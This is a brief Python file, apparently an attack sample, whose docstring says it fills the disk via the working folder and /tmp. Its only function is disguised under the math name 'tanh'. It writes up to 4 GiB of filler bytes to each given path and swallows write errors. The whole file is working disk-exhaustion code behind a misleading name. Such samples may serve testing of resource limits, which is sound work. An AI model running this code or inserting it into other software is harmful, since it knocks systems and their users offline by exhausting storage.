"""Attack: fill the disk through the working folder and /tmp."""


def tanh(paths):
    written = []
    for path in paths:
        size = 0
        try:
            with open(path, "wb") as file:
                while size < 2**32:
                    file.write(b"x" * 2**20)
                    size += 2**20
        except OSError:
            pass
        written.append(size)
    return written
